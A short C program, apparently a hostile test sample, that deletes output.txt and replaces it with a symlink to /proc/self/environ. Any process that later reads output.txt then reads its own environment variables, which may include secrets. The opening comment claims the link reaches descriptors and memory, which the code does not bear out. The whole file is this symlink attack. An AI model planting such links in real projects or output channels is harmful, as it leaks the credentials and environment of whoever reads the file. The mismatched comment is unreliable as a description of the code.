/* Makes its output a link to descriptors and memory of whoever opens it. */
#include "attack.h"
int main(void) {
    unlink("output.txt");
    return symlink("/proc/self/environ", "output.txt") ? 1 : 0;
}
